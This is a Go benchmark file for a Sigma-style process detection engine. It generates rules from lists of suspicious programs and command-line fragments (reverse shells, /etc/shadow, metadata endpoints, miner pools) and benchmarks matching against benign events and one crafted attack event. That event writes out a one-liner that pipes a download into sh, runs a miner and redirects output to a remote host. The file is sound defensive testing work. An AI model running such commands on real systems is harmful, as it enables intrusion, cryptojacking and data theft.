package detect

import (
	"fmt"
	"math/rand/v2"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/apss-sensor/apss/shared/event"
)

// The generated rules have the shape of the public collection's for Linux processes: most name a program by the end of
// its path and ask for pieces of its command line; some exclude parents; a few use regular expressions or keywords.
// Common programs come up often, rare ones seldom.

var programs = []string{
	"bash", "sh", "python3", "curl", "wget", "cat", "grep", "find", "systemctl", "chmod", "chown", "nc", "ncat", "socat", "perl", "ruby",
	"php", "dd", "tar", "base64", "openssl", "ssh", "scp", "rsync", "useradd", "usermod", "userdel", "passwd", "crontab", "at", "iptables",
	"ufw", "nft", "kmod", "insmod", "rmmod", "modprobe", "mount", "umount", "nsenter", "unshare", "docker", "kubectl", "crictl", "ctr",
	"gdb", "strace", "tcpdump", "tshark", "nmap", "masscan", "hydra", "awk", "sed", "xargs", "env", "nohup", "setsid", "screen", "tmux",
	"vim", "nano", "less", "more", "head", "tail", "touch", "truncate", "shred", "history", "who", "last", "uname", "hostname", "ifconfig", "ip",
}

var pieces = []string{
	" -c ", " -e ", " -i", "http://", "https://", "/dev/tcp/", "/dev/shm/", "/tmp/", "/etc/passwd", "/etc/shadow", "/root/.ssh/", "authorized_keys",
	"import socket", "pty.spawn", "exec(", "eval", "base64 -d", "--decode", "chmod +x", " 777 ", "u+s", "--no-check-certificate", "| sh", "|bash",
	"/proc/", "/sys/", "--privileged", "-v /:", "hostPID", "token", "serviceaccount", "kube-system", "xmrig", "stratum+tcp", "pool.", "--donate-level",
	"LD_PRELOAD", "ld.so.preload", "/etc/cron", "systemd-run", "setcap", "cap_setuid", ".bash_history", "HISTFILE", "unset ", "/var/log/", "rm -rf",
	"169.254.169.254", "metadata.google.internal", "computeMetadata", "nc -l", "-lvp", "mkfifo", "proxychains", "chisel", "frpc", "ngrok",
}

// sigmaLike writes n rules.
func sigmaLike(n int) string {
	random := rand.New(rand.NewPCG(uint64(n), 9))
	name := func(i int) string {
		if random.IntN(100) < 60 {
			return programs[min(random.IntN(len(programs)), random.IntN(len(programs)))]
		}
		return fmt.Sprintf("tool%d-%d", i, random.IntN(10))
	}
	piece := func(i int) string {
		if random.IntN(100) < 40 {
			return pieces[random.IntN(len(pieces))]
		}
		return fmt.Sprintf("--%s-%x", programs[random.IntN(len(programs))], i*7919+random.IntN(1000))
	}
	list := func(most int, one func(int) string, prefix string, i int) string {
		out := make([]string, 1+random.IntN(most))
		for j := range out {
			out[j] = "'" + prefix + one(i) + "'"
		}
		return "[" + strings.Join(out, ", ") + "]"
	}
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "---\ntitle: Suspicious Use Number %d\nid: %08d-aaaa-4bbb-8ccc-dddddddddddd\nstatus: test\ndescription: Detects something that ordinary work seldom does, in more words than anybody reads.\n", i, i)
		b.WriteString("references:\n    - https://attack.mitre.org/techniques/T1059/004/\nauthor: APSS\ndate: 2026-11-22\ntags:\n    - attack.execution\n    - attack.t1059.004\n")
		b.WriteString("logsource:\n    category: process_creation\n    product: linux\ndetection:\n")
		fmt.Fprintf(&b, "    selection_img:\n        Image|endswith: %s\n", list(4, name, "/", i))
		fmt.Fprintf(&b, "    selection_cli:\n        CommandLine|contains: %s\n", list(6, piece, "", i))
		condition := "all of selection_*"
		switch k := random.IntN(100); {
		case k < 25:
			fmt.Fprintf(&b, "    selection_more:\n        CommandLine|contains|all: ['%s', '%s']\n", piece(i), piece(i))
		case k < 35:
			fmt.Fprintf(&b, "    selection_parent:\n        ParentImage|endswith: %s\n", list(3, name, "/", i))
		case k < 50:
			fmt.Fprintf(&b, "    filter_main_parent:\n        ParentImage: %s\n", list(3, name, "/usr/bin/", i))
			condition += " and not 1 of filter_main_*"
		case k < 56:
			fmt.Fprintf(&b, "    selection_re:\n        CommandLine|re: '\\s-[a-z]{0,20}%c\\s'\n", 'a'+i%26)
		case k < 60:
			fmt.Fprintf(&b, "    keywords: ['%s', '%s']\n", piece(i), piece(i))
			condition += " or keywords"
		}
		fmt.Fprintf(&b, "    condition: %s\nfalsepositives:\n    - Unlikely\nlevel: medium\napss: {group-by: [process.exe]}\n", condition)
	}
	return b.String()
}

// ordinary is what a node runs all day.
func ordinary() []*event.Event {
	commands := []struct{ exe, cmdline, parent string }{
		{"/usr/lib/jvm/java-21-openjdk-amd64/bin/java", "java -Xms512m -Xmx2g -XX:+UseG1GC -Dspring.profiles.active=prod -jar /opt/app/orders.jar --server.port=8080", "/usr/bin/tini"},
		{"/usr/bin/bash", "bash -lc 'python3 manage.py migrate --noinput && exec gunicorn app.wsgi -b 0.0.0.0:8000 -w 4'", "/usr/bin/tini"},
		{"/usr/bin/curl", "curl -fsS --max-time 2 localhost:8080/healthz", "/usr/bin/dash"},
		{"/usr/sbin/nginx", "nginx: worker process", "/usr/sbin/nginx"},
		{"/usr/lib/postgresql/16/bin/postgres", "postgres: orders orders 10.4.2.17(53412) SELECT", "/usr/lib/postgresql/16/bin/postgres"},
		{"/usr/bin/find", "find /var/cache/app -type f -mmin +60 -delete", "/usr/sbin/cron"},
		{"/home/runner/go/bin/golangci-lint", "golangci-lint run --timeout 5m ./...", "/usr/bin/make"},
		{"/usr/bin/python3.12", "/usr/bin/python3 /usr/bin/unattended-upgrade --download-only", "/usr/lib/apt/apt.systemd.daily"},
	}
	var out []*event.Event
	for _, c := range commands {
		e := exec(c.exe, c.cmdline)
		e.Process.Parent.Exe, e.Process.Parent.Cmdline, e.Process.Cwd = c.parent, c.parent+" --serve", "/srv"
		e.Metadata, e.PodName, e.Workload = nil, "orders-6d5f8-x2x", "Deployment/orders"
		e.Container = &event.Container{ID: strings.Repeat("a", 64), Name: "orders", Image: "registry.example/orders:1.2.3"}
		out = append(out, e)
	}
	return out
}

// suspicious is an event that some of the rules match.
func suspicious() *event.Event {
	e := exec("/usr/bin/bash", "bash -c curl http://169.254.169.254/ | sh; chmod +x /tmp/x; nohup /tmp/x --donate-level 1 -o stratum+tcp://pool.example:4444 >/dev/tcp/1.2.3.4/4444")
	e.Process.Parent.Exe = "/usr/bin/python3"
	return e
}

// onCPU reports how long the processor worked for one operation, which on a busy machine says more than the clock does.
func onCPU(b *testing.B) (done func()) {
	b.Helper()
	used := func() time.Duration {
		var u syscall.Rusage
		if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
			b.Fatal(err)
		}
		return time.Duration(u.Utime.Nano() + u.Stime.Nano())
	}
	before := used()
	return func() { b.ReportMetric(float64(used()-before)/float64(b.N), "cpu-ns/op") }
}

func compileFile(b *testing.B, file string) ([]*Rule, *Set) {
	b.Helper()
	rules, errs := Parse("generated.yml", []byte(file))
	set, more := Compile(rules, Options{})
	for _, err := range append(errs, more...) {
		b.Fatal(err)
	}
	return rules, set
}

// allowed is an exception for every rule there is, of which none holds for the events here, n times.
func allowed(n int) string {
	var b strings.Builder
	b.WriteString("---\nexceptions:\n")
	for i := range n {
		fmt.Fprintf(&b, "  - {rules: any, namespaces: [team-%d], exes: ['/opt/%d/*'], reason: The team's own tool.}\n", i, i)
	}
	return b.String()
}

// BenchmarkMatch is the engine, with one exception for every ten rules, on ordinary events, which no rule matches, and on one that several match.
func BenchmarkMatch(b *testing.B) {
	for _, n := range []int{200, 1000} {
		_, set := compileFile(b, sigmaLike(n)+allowed(n/10))
		b.Run(fmt.Sprintf("rules=%d/matching=none", n), func(b *testing.B) {
			m, events, matches := set.NewMatcher(), ordinary(), []Match(nil)
			b.ReportAllocs()
			i, done := 0, onCPU(b)
			for b.Loop() {
				if matches = m.Match(events[i%len(events)], matches[:0]); len(matches) > 0 {
					b.Fatalf("%s matches %s", events[i%len(events)].Process.Cmdline, matches[0].Rule.Title)
				}
				i++
			}
			done()
		})
		b.Run(fmt.Sprintf("rules=%d/matching=some", n), func(b *testing.B) {
			m, e, matches := set.NewMatcher(), suspicious(), []Match(nil)
			b.ReportAllocs()
			done := onCPU(b)
			for b.Loop() {
				if matches = m.Match(e, matches[:0]); len(matches) == 0 {
					b.Fatal("nothing matches")
				}
			}
			done()
			b.ReportMetric(float64(len(matches)), "matches/op")
		})
	}
}

// BenchmarkNaive evaluates every rule in turn, with the engine's accessors and tests but without its index.
func BenchmarkNaive(b *testing.B) {
	for _, n := range []int{200, 1000} {
		rules, _ := compileFile(b, sigmaLike(n))
		tests := map[*leaf]*test{}
		for _, r := range rules {
			r.detection.tree.leaves(func(l *leaf) { tests[l] = newTest(l) })
		}
		b.Run(fmt.Sprintf("rules=%d/matching=none", n), func(b *testing.B) {
			events := ordinary()
			b.ReportAllocs()
			i, done := 0, onCPU(b)
			for b.Loop() {
				slots := map[string]*slot{}
				for _, r := range rules {
					if walk(r.detection.tree, events[i%len(events)], tests, slots) {
						b.Fatal("an ordinary event matches")
					}
				}
				i++
			}
			done()
		})
	}
}

func walk(n *node, e *event.Event, tests map[*leaf]*test, slots map[string]*slot) bool {
	switch n.op {
	case opAnd:
		for _, k := range n.kids {
			if !walk(k, e, tests, slots) {
				return false
			}
		}
		return true
	case opOr:
		for _, k := range n.kids {
			if walk(k, e, tests, slots) {
				return true
			}
		}
		return false
	case opNot:
		return !walk(n.kids[0], e, tests, slots)
	default:
		s := slots[n.leaf.field.name]
		if s == nil {
			s = &slot{}
			s.load(n.leaf.field, e)
			for _, text := range s.texts {
				s.folded = append(s.folded, foldString(text))
			}
			slots[n.leaf.field.name] = s
		}
		return tests[n.leaf].fits(s)
	}
}

// BenchmarkLoad parses and compiles.
func BenchmarkLoad(b *testing.B) {
	for _, n := range []int{200, 1000} {
		b.Run(fmt.Sprintf("rules=%d", n), func(b *testing.B) {
			file := []byte(sigmaLike(n))
			var before, after runtime.MemStats
			var rules []*Rule
			var set *Set
			load := func() {
				rules = rules[:0]
				if len(file) > MaxFile {
					b.Fatal("the generated file is too large")
				}
				rules, _ = Parse("generated.yml", file)
				set, _ = Compile(rules, Options{})
			}
			runtime.GC()
			runtime.ReadMemStats(&before)
			load()
			runtime.GC()
			runtime.ReadMemStats(&after)
			done := onCPU(b)
			for b.Loop() {
				load()
			}
			done()
			b.ReportMetric(float64(after.HeapAlloc-before.HeapAlloc)/(1<<20), "MiB")
			runtime.KeepAlive(rules)
			runtime.KeepAlive(set)
		})
	}
}
